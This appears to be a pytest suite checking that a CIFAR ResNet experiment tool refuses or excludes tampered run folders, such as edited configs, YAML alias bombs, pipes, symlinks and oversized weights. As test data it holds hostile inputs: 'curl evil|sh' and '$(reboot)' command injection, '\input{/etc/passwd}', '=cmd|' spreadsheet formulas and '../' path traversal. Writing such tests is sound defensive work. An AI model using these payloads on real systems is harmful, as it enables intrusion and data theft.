"""Run folders that can't be believed: every entry point refuses them in one line, or leaves them out with a reason."""

import csv
import io
import json
import os
import shutil
import sys
import zipfile

import pytest
import torch
import yaml

from cifar_resnet import evaluate, load_run
from cifar_resnet.errors import RunError
from cifar_resnet.export import record as export
from cifar_resnet.printable import UNPRINTABLE
from cifar_resnet.report import command
from cifar_resnet.report.runs import load
from cifar_resnet.run.find import find_runs
from cifar_resnet.run.folder import RunDir
from cifar_resnet.run.identity import config_hash
from cifar_resnet.run.states import State
from cifar_resnet.status.__main__ import read
from tests.conftest import TINY, called, compose_run, tree, work
from tests.test_old_runs import FINISHED as OLD

CHANGED = "was changed after the run began"


@pytest.fixture
def run(tmp_path):
    """A finished run, copied."""
    copied = RunDir(tmp_path / "outputs" / "a")
    shutil.copytree(OLD[0].path, copied.path)
    return copied


def edit(run: RunDir, group: str, key: str, value: object) -> None:
    config = run.read_config()
    (config[group] if group else config)[key] = value
    run.config.write_text(yaml.safe_dump(config))


def contents(folder) -> dict:
    return {name: (folder / name).read_bytes() for name in tree(folder)}


def refused(done, message: str) -> None:
    assert done.returncode == 2, done.stdout + done.stderr
    assert message in done.stderr
    assert done.stderr.count("\n") == 1


def unreadable(run: RunDir) -> str:
    """Why a report on this folder and on a good one excludes it; the good one must be counted."""
    good = run.path.parent / "good"
    if not good.exists():
        shutil.copytree(OLD[1].path, good)
    runs = load.load([run.path.parent])
    assert runs.finished["folder"].tolist() == [str(good)]
    interrupted = runs.unfinished
    return (dict(zip(interrupted["folder"], interrupted["reason"], strict=True)) | runs.unreadable)[str(run.path)]


@pytest.mark.parametrize("state", State)
@pytest.mark.parametrize("in_sweep", [False, True])
def test_a_folder_of_another_run_is_refused_in_every_state(train_py, tmp_path, state, in_sweep):
    run = RunDir(tmp_path / "exp1")
    run.write_config(compose_run(*TINY))
    if state is not State.PENDING:
        run.update_status(state=state)
    before = contents(tmp_path)
    where = ["-m", f"hydra.sweep.dir={tmp_path}", "hydra.sweep.subdir=exp1"] if in_sweep else ["hydra.run.dir=exp1"]
    refused(train_py(*where, *TINY, "optim.lr=0.01"), "exp1 contains another run (optim.lr is 0.1 there and 0.01 here)")
    assert contents(tmp_path) == before


def test_a_folder_whose_config_is_gone_is_refused_by_the_hash_in_its_record(train_py, tmp_path):
    RunDir(tmp_path / "exp1").path.mkdir()
    RunDir(tmp_path / "exp1").update_status(state=State.FINISHED, hash="01234567")
    refused(train_py(*TINY, "hydra.run.dir=exp1"), "exp1 contains another run, without its config.yaml")


def test_runs_that_would_share_a_folder_are_refused_before_any_starts(train_py, tmp_path):
    refused(
        train_py("-m", *TINY, "hydra.sweep.subdir=exp2", "optim.lr=0.1,0.01"),
        "different runs (optim.lr=0.1 and optim.lr=0.01) would share the folder",
    )
    assert tree(tmp_path) == []


def test_runs_that_differ_only_in_how_they_are_computed_may_share_a_folder(train_py, monkeypatch):
    monkeypatch.setattr("cifar_resnet.sweep.dry_run.print_costs", lambda configs, at_a_time: None)
    done = train_py("-m", *TINY, "hydra.sweep.subdir=exp2", "runtime.threads=1,2", "runtime.dry_run=true")
    assert done.returncode == 0, done.stderr


def test_a_folder_named_by_a_runs_position_is_refused(train_py, tmp_path):
    refused(
        train_py("-m", *TINY, "hydra.sweep.subdir='${hydra.job.num}'", "optim.lr=0.1,0.01"),
        "expected a folder that depends only on the run",
    )
    assert tree(tmp_path) == []


def test_a_changed_config_is_believed_by_nobody(run, capsys):
    edit(run, "optim", "lr", 0.2)
    assert CHANGED in unreadable(run)
    before = contents(run.path)
    refused(work(run), CHANGED)
    refused(called(lambda: sys.exit(evaluate.main([str(run.path)]))), CHANGED)
    with pytest.raises(RunError, match=CHANGED):
        load_run(run.path)
    row = next(row for row in read([run.path.parent]) if row.run == run)
    assert row.state is State.FAILED and CHANGED in row.reason
    assert contents(run.path) == before


def test_a_key_that_is_not_part_of_the_identity_may_be_changed(run):
    edit(run, "runtime", "threads", 2)
    assert run.verify() == (State.FINISHED, None)


def as_text(run, name, text):
    (run.path / name).write_text(text)


def as_pipe(run, name):
    (run.path / name).unlink()
    os.mkfifo(run.path / name)


def as_link(run, name, target):
    (run.path / name).unlink()
    (run.path / name).symlink_to(target)


def record(run, **fields):
    run.status.write_text(json.dumps(run.read_status() | fields))


ALIASES = "".join(f"a{level}: &a{level} [{','.join([f'*a{level - 1}'] * 9)}]\n" for level in range(1, 99))
FAULTS = {
    "a name that leads to another folder": (edit, ["data", "name", "../../x/victim"], "data.name="),
    "a recipe that leads to another folder": (edit, ["optim", "name", "../../../x"], "optim.name="),
    "a model that doesn't exist": (edit, ["model", "name", "../../evil"], "model.name"),
    "a text for a number": (edit, ["optim", "lr", "0.1\n```\n```math\n\\input{/etc/passwd}\n```"], "optim.lr"),
    "an infinite number": (edit, ["", "depth", float("inf")], "depth"),
    "a huge number": (as_text, ["config.yaml", f"seed: 1{'0' * 5000}"], "config.yaml"),
    "a deep network": (edit, ["", "depth", 6 * 10**8 + 2], "depth is too large"),
    "an interpolation": (edit, ["data", "cache", "/x/${oc.env:HOME}"], "contains ${…}"),
    "an escape sequence": (edit, ["data", "root", "\x1b[31mred"], "data.root='\\x1b[31mred'"),
    "a lone surrogate": (as_text, ["config.yaml", 'depth: "\\ud800"'], "config.yaml"),
    "aliases": (as_text, ["config.yaml", "a0: &a0 x\n" + ALIASES], "contains a YAML alias"),
    "brackets": (as_text, ["config.yaml", "[" * 50_000], "nest"),  # PyYAML itself refuses them in newer versions
    "a large config": (as_text, ["config.yaml", "#" * 100_000], "more than 65,536 bytes"),
    "brackets in the record": (as_text, ["run.json", "[" * 100_000], "run.json can't be read"),
    "classes without end": (lambda run: record(run, data={"classes": 200_000_000}), [], "data.classes is 200000000"),
    "a text for a count": (lambda run: record(run, parameters="many"), [], "parameters is 'many'"),
    "a number for parts": (lambda run: record(run, earlier=5), [], "earlier is 5; expected a list"),
    "numbered kernels": (lambda run: record(run, kernels=5), [], "kernels is 5; expected text"),
    "numbered earlier kernels": (lambda run: record(run, earlier=[{"kernels": 5}]), [], "earlier.kernels is 5"),
    "a true count": (lambda run: record(run, threads=True), [], "threads is True"),
    "a pipe for a config": (as_pipe, ["config.yaml"], "is not a regular file"),
    "a pipe for a record": (as_pipe, ["run.json"], "is not a regular file"),
    "a device for a record": (as_link, ["run.json", "/dev/zero"], "is not a regular file"),
}


@pytest.mark.parametrize("fault", FAULTS)
def test_a_folder_from_elsewhere_is_left_out_of_the_report_with_the_reason(run, fault):
    act, arguments, reason = FAULTS[fault]
    act(run, *arguments)
    assert reason in unreadable(run)


@pytest.mark.parametrize("name", ["metrics.csv", "predictions.csv", "diagnostics.csv"])
@pytest.mark.parametrize("kind", ["pipe", "device"])
def test_a_table_that_is_no_file_makes_its_folder_unreadable(run, name, kind):
    as_pipe(run, name) if kind == "pipe" else as_link(run, name, "/dev/zero")
    assert run.verify() == (State.INTERRUPTED, f"its {name} is not the one that it finished with")
    if name != "predictions.csv":
        assert "is not a regular file" in unreadable(run)


DAMAGE = {
    "a changed metrics.csv": (
        lambda run: run.metrics.write_text(run.metrics.read_text() + "\n"),
        "its metrics.csv is not the one that it finished with",
    ),
    "no predictions.csv": (lambda run: run.predictions.unlink(), "its predictions.csv is missing"),
    "no run.json": (lambda run: run.status.unlink(), "its run.json is missing"),
    "a damaged run.json": (lambda run: run.status.write_text('{"state": "fini\n'), "run.json can't be read: Invalid"),
}


@pytest.mark.parametrize("damage", DAMAGE)
def test_a_finished_run_with_a_damaged_file_is_refused_with_the_reason_and_what_to_do(run, damage):
    act, expected = DAMAGE[damage]
    act(run)
    state, reason = run.verify()
    assert state is State.INTERRUPTED and expected in reason
    refused(
        called(lambda: sys.exit(evaluate.main([str(run.path)]))),
        f"{run.path} is interrupted ({reason}): expected a finished run; run its training command again to continue it",
    )


@pytest.mark.parametrize(
    ("state", "remedy"),
    [
        (State.RUNNING, "wait until it ends"),
        (State.DIVERGED, "the same configuration would diverge again"),
        (State.FAILED, "run its training command again to continue it"),
    ],
)
def test_what_to_do_about_an_unfinished_run_depends_on_its_state(run, state, remedy):
    record(run, state=state, reason="why", metrics_digest=None)  # without results
    with run.lock(), pytest.raises(RunError) as error:
        load_run(run.path)
    assert str(error.value) == f"{run.path} is {state} (why): expected a finished run; {remedy}"


@pytest.mark.parametrize("name", ["checkpoint.pt", "run.log"])
def test_a_pipe_makes_no_program_wait(run, name):
    (run.path / name).unlink(missing_ok=True)
    os.mkfifo(run.path / name)
    record(run, state="interrupted", metrics_digest=None)  # without results
    done = work(run)
    assert done.returncode == 2, done.stdout + done.stderr
    assert "regular file" in done.stderr


def test_what_a_link_leads_to_is_not_written_to(run, tmp_path):
    precious = tmp_path / "precious"
    precious.write_text("text\n")
    (run.path / "run.log").unlink(missing_ok=True)
    (run.path / "run.log").symlink_to(precious)
    record(run, state="interrupted", metrics_digest=None)  # without results
    done = work(run)
    assert done.returncode == 2, done.stdout + done.stderr
    assert precious.read_text() == "text\n"


def test_a_record_is_shown_without_what_acts_on_a_terminal(run):
    record(run, reason="\x1b[2Jgone\u202e \ud800", state="failed")
    assert run.read_status()["reason"] == " [2Jgone   "


def test_folders_that_are_linked_are_found_once_and_loops_are_tolerated(tmp_path, run):
    outputs, elsewhere = tmp_path / "outputs", tmp_path / "elsewhere"
    run.path.rename(elsewhere)
    (outputs / "a").symlink_to(elsewhere)
    (outputs / "loop").symlink_to(outputs)
    (outputs / "b").mkdir()
    (outputs / "b" / "again").symlink_to(elsewhere)
    assert find_runs([outputs]) == [RunDir(outputs / "a")]
    assert RunDir(outputs / "a").verified_state() is State.FINISHED
    assert len(load.load([outputs]).finished) == 1


TEXTS = (".md", ".tex", ".csv", ".html")
HOSTILE = "=cmd|'calc'!A1 \x1b[31m[bold] \u202e"


@pytest.fixture
def report(run, tmp_path, monkeypatch):
    """The files of a report on a run whose folder has a hostile name, with the command's output."""
    edit(run, "", "out", "outputs; curl evil|sh #")
    run.path.rename(run.path.parent / HOSTILE)
    record(RunDir(run.path.parent / HOSTILE), commit="$(reboot)", device="```math\n\\input{x}\n```")
    shutil.copytree(OLD[1].path, run.path.parent / "[red]unreadable\x1b[0m")
    (run.path.parent / "[red]unreadable\x1b[0m/config.yaml").write_text('a: "\x1b]0;title\x07\n')
    arguments = [".", "--out", str(tmp_path / "report")]
    monkeypatch.chdir(run.path.parent)
    done = called(lambda: sys.exit(command.main(arguments)))
    assert done.returncode == 0, done.stderr
    return done, {
        name: (tmp_path / "report" / name).read_text() for name in tree(tmp_path / "report") if name.endswith(TEXTS)
    }


def test_hostile_names_reach_no_terminal_no_spreadsheet_and_no_page(report):
    done, files = report
    for text in (done.stdout, done.stderr, *files.values()):
        assert not UNPRINTABLE.search(text.replace("\n", ""))
    for name, text in files.items():
        if name.endswith(".csv"):
            cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
            assert not [cell for cell in cells if cell.startswith(("=", "+c", "@"))], name
    assert any("'=cmd|" in text for name, text in files.items() if name.endswith(".csv"))
    assert " \"out='outputs; curl evil|sh #'\"\n" in files["report.md"]
    assert "\\input{x}" not in files["report.tex"]
    assert "[bold]" in files["report.html"]


def test_what_a_link_leads_to_is_not_copied_to_a_tracker(run, tmp_path):
    (tmp_path / "key").write_text("secret")
    as_link(run, "final.pt", tmp_path / "key")
    assert "final.pt" not in export.read(run).attachments()
    edit(run, "optim", "lr", 0.2)
    with pytest.raises(RunError, match=CHANGED):
        export.read(run)


def zipped(content: dict[str, bytes], method: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in content.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def repacked(weights: bytes, method: int = zipfile.ZIP_STORED) -> bytes:
    with zipfile.ZipFile(io.BytesIO(weights)) as archive:
        return zipped({entry.filename: archive.read(entry) for entry in archive.infolist()}, method)


def claiming_128_gb(weights: bytes) -> bytes:
    """Weights whose last layer is said to have 2**29 classes; in the file, all of them share one row."""
    state = torch.load(io.BytesIO(weights), weights_only=True)
    state["linear.weight"] = state["linear.weight"][:1].expand(2**29, -1)
    buffer = io.BytesIO()
    torch.save(state, buffer)
    return buffer.getvalue()


WEIGHTS = {
    "compressed": (lambda weights: repacked(weights, zipfile.ZIP_DEFLATED), "compressed"),
    "claiming 128 GB": (claiming_128_gb, "linear.bias has the shape"),
    "no archive": (lambda weights: b"nothing", "not a zip file"),
}


@pytest.mark.parametrize("kind", WEIGHTS)
def test_weights_that_would_fill_the_memory_are_refused_before_they_are_loaded(run, kind):
    forge, reason = WEIGHTS[kind]
    run.final.write_bytes(forge(run.final.read_bytes()))
    with pytest.raises(RunError, match="doesn't contain weights of this run's network") as error:
        load_run(run.path)
    assert reason in str(error.value)


def test_weights_of_a_network_that_the_config_makes_huge_are_refused_before_it_is_built(run):
    edit(run, "model", "width", 2**20)
    record(run, hash=config_hash(run.read_config()))
    with pytest.raises(RunError, match="has the shape"):
        load_run(run.path)


def test_weights_that_were_only_packed_again_are_loaded(run):
    run.final.write_bytes(repacked(run.final.read_bytes()))
    assert load_run(run.path).config.depth == 8
